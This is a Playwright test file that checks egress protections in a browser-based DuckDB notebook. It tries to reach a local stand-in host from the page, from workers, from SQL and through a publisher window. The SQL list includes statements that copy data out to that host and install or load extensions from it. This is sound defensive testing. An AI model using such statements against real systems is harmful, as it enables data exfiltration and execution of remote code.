// Code that got into the app tries to reach another host, and its own: from the page, from every worker, from SQL, through the publisher.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page, type Worker } from '@playwright/test';
import { startCountingServer, type CountingServer } from './egress/counting-server.ts';
import { startLoggingProxy } from './egress/logging-proxy.ts';
import { OWN_ORIGIN_ATTACKS, SECRET } from './egress/own-origin-attacks.ts';
import {
  PAGE_ATTACKS,
  WORKER_ATTACKS,
  preparePage,
  type Attack,
  type Targets,
} from './egress/page-attacks.ts';
import { addCell, cell, runCell, startNotebook, writeSql } from './workbench.ts';

/** Long enough for a request on the loopback interface, and for a retry of it. */
const SETTLE_MS = 1_500;

let foreign: CountingServer;

test.beforeAll(async () => {
  foreign = await startCountingServer();
});
test.beforeEach(() => foreign.forget());
test.afterAll(() => foreign.stop());

/** The targets of one attack, so that what arrives tells which it was. */
function targetsOf(attack: Attack): Targets {
  const { origin, silentOrigin, udpPort } = foreign;
  return { origin: `${origin}/${encodeURIComponent(attack.name)}`, silentOrigin, udpPort };
}

/** Runs an attack; neither its failure nor its success matters here. */
async function attempt(place: Page | Worker, attack: Attack): Promise<void> {
  const targets = targetsOf(attack);
  const running =
    'workers' in place ? place.evaluate(attack.run, targets) : place.evaluate(attack.run, targets);
  await Promise.race([running.catch(() => undefined), new Promise((done) => setTimeout(done, SETTLE_MS))]);
}

async function attemptAll(place: Page | Worker, attacks: readonly Attack[]): Promise<void> {
  await Promise.all(attacks.map((attack) => attempt(place, attack)));
  await new Promise((done) => setTimeout(done, SETTLE_MS));
}

const staying = PAGE_ATTACKS.filter((attack) => !attack.leaves);
const leaving = PAGE_ATTACKS.filter((attack) => attack.leaves);

/** Which attacks got through, by name. */
function succeeded(attacks: readonly Attack[]): readonly string[] {
  const named = attacks.filter((attack) =>
    foreign.arrivals.some((arrival) => arrival.includes(`/${encodeURIComponent(attack.name)}/`)),
  );
  const bare = ['connection', 'datagram'].filter((kind) => foreign.arrivals.includes(kind));
  return [...named.map((attack) => attack.name), ...bare];
}

test('each attack succeeds from a page without protection, so that its failure says something', async ({
  page,
}) => {
  const host = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>Unprotected</title><body></body>');
  });
  await new Promise<void>((done) => host.listen(0, '127.0.0.1', done));
  const address = `http://127.0.0.1:${(host.address() as AddressInfo).port}/`;
  try {
    await page.goto(address);
    await page.evaluate(preparePage);
    await attemptAll(page, staying);
    for (const attack of leaving) {
      const own = await page.context().newPage();
      await own.goto(address);
      await own.evaluate(preparePage);
      await attempt(own, attack);
      await new Promise((done) => setTimeout(done, 300));
      await own.close();
    }
    const worker = page.waitForEvent('worker');
    await page.evaluate(() => {
      new Worker(URL.createObjectURL(new Blob(['onmessage=()=>{}'], { type: 'text/javascript' })));
    });
    foreign.arrivals.push('now the worker');
    await attemptAll(await worker, WORKER_ATTACKS);
    const fromWorker = foreign.arrivals.slice(foreign.arrivals.indexOf('now the worker')).join(' ');
    const quiet = WORKER_ATTACKS.filter(
      (attack) => !attack.uncontrolled && !fromWorker.includes(`/${encodeURIComponent(attack.name)}/`),
    );
    expect(quiet.map((attack) => attack.name)).toEqual([]);
    const byPath = PAGE_ATTACKS.filter(
      (attack) => !attack.uncontrolled && !/WebRTC|preconnect/.test(attack.name),
    ).map((attack) => attack.name);
    const got = new Set(succeeded(PAGE_ATTACKS));
    expect(byPath.filter((name) => !got.has(name))).toEqual([]);
    expect(got.has('connection') && got.has('datagram')).toBe(true);
  } finally {
    host.closeAllConnections();
    host.close();
  }
});

test('nothing reaches another host from the page', async ({ page }) => {
  await startNotebook(page);
  await page.evaluate(preparePage);
  await attemptAll(page, staying);
  expect(foreign.arrivals).toEqual([]);
});

for (const attack of leaving) {
  test(`nothing reaches another host by leaving the page: ${attack.name}`, async ({ page, context }) => {
    await page.goto('/');
    await expect(page.getByRole('button', { name: 'New empty notebook' })).toBeVisible();
    await page.evaluate(preparePage);
    await attempt(page, attack);
    await new Promise((done) => setTimeout(done, 500));
    expect(foreign.arrivals).toEqual([]);
    await Promise.all(context.pages().map((each) => each.close()));
  });
}

test('nothing reaches another host from any worker', async ({ page }) => {
  await startNotebook(page);
  await expect(page.getByRole('contentinfo')).toContainText('DuckDB', { timeout: 90_000 });
  await addCell(page, 'SQL cell');
  await writeSql(page, 'cell_1', 'SELECT 1 AS one');
  await runCell(page, 'cell_1');
  await expect(cell(page, 'cell_1')).toContainText('done');
  const workers = page.workers();
  expect(workers.length, 'engine, its own worker, and the SQL parser').toBeGreaterThanOrEqual(3);
  await Promise.all(workers.map((worker) => attemptAll(worker, WORKER_ATTACKS)));
  expect(foreign.arrivals).toEqual([]);
});

test('nothing reaches another host from SQL', async ({ page }) => {
  await startNotebook(page);
  await addCell(page, 'SQL cell');
  const url = `${foreign.origin}/sql`;
  const statements = [
    `SELECT * FROM read_csv('${url}.csv')`,
    `SELECT * FROM read_text('${url}.txt')`,
    `SELECT * FROM read_blob('${url}.bin')`,
    `SELECT * FROM sniff_csv('${url}.csv')`,
    `SELECT * FROM glob('${url}/*')`,
    `SELECT * FROM '${url}.csv'`,
    `SELECT (SELECT count(*) FROM read_csv('${url}.csv')) AS inner_count`,
    `SELECT * FROM query('SELECT * FROM read_csv(''${url}.csv'')')`,
    `ATTACH '${url}.db' AS other`,
    `COPY (SELECT 1) TO '${url}.csv'`,
    `INSTALL httpfs FROM '${foreign.origin}'`,
    `LOAD '${url}.duckdb_extension.wasm'`,
    `SET custom_extension_repository = '${foreign.origin}'`,
    `PRAGMA enable_external_access`,
  ];
  for (const statement of statements) {
    await writeSql(page, 'cell_1', statement);
    await runCell(page, 'cell_1');
    await expect(cell(page, 'cell_1'), statement).toContainText('failed', { timeout: 10_000 });
  }
  expect(foreign.arrivals).toEqual([]);
});

test('the publisher cannot be made to send for the notebook', async ({ page, context }) => {
  await startNotebook(page);
  const outcomes = await page.evaluate(async (target) => {
    const pause = (ms: number) => new Promise((done) => setTimeout(done, ms));
    const taken = async (name: string, use: () => unknown) => {
      try {
        return [name, (await use()) ? 'reached' : 'refused'];
      } catch {
        return [name, 'refused'];
      }
    };
    const opened = window.open('./publisher.html', 'publisher') as (Window & typeof globalThis) | null;
    await pause(1_500);
    const again = window.open('', 'publisher') as (Window & typeof globalThis) | null;
    const framed = document.createElement('iframe');
    framed.src = './publisher.html';
    document.body.append(framed);
    const alone = document.createElement('iframe');
    alone.setAttribute('credentialless', '');
    alone.src = './publisher.html';
    document.body.append(alone);
    await pause(1_000);
    const channel = new BroadcastChannel('sluice-publisher');
    channel.postMessage({ kind: 'job-added', jobId: target });
    channel.postMessage({ kind: 'send', url: target });
    return Promise.all([
      taken('opener', () => opened?.fetch(`${target}/opened`).then(() => true)),
      taken('document', () => opened?.document.body),
      taken('name', () => again?.fetch(`${target}/named`).then(() => true)),
      taken('frame', () =>
        (framed.contentWindow as typeof opened)?.fetch(`${target}/framed`).then(() => true),
      ),
      taken('frame document', () => framed.contentDocument?.querySelector('main, h1')),
      taken('bare frame', () =>
        (alone.contentWindow as typeof opened)?.fetch(`${target}/alone`).then(() => true),
      ),
    ]);
  }, foreign.origin);
  await new Promise((done) => setTimeout(done, SETTLE_MS));
  expect(outcomes.filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
  expect(foreign.arrivals).toEqual([]);
  const publishers = context.pages().filter((each) => each.url().includes('publisher.html'));
  expect(publishers.length).toBeGreaterThan(0);
  for (const publisher of publishers)
    expect(await publisher.evaluate(() => window.opener === null)).toBe(true);
});

test('its own server learns nothing either', async ({ page, context, baseURL }) => {
  const proxy = await startLoggingProxy(baseURL ?? '');
  try {
    const open = async (target: Page) => {
      await target.goto(`${proxy.origin}/`);
      await expect(target.getByRole('button', { name: 'New empty notebook' })).toBeVisible();
      await target.evaluate(preparePage);
    };
    await open(page);
    for (const attack of OWN_ORIGIN_ATTACKS) {
      const own = attack.leaves ? await context.newPage() : page;
      if (attack.leaves) await open(own);
      proxy.requests.length = 0;
      await Promise.race([
        own.evaluate(attack.run, SECRET).catch(() => undefined),
        new Promise((done) => setTimeout(done, 500)),
      ]);
      await new Promise((done) => setTimeout(done, 400));
      const learned = proxy.requests.filter((request) => request.includes(SECRET));
      const lines = learned.map((request) => request.split('\n')[0]).join(', ');
      expect.soft(learned.length > 0, `${attack.name}: ${lines}`).toBe(attack.arrivesBecause !== undefined);
      if (attack.leaves) await own.close();
      await context.clearCookies();
    }
  } finally {
    await proxy.stop();
  }
});
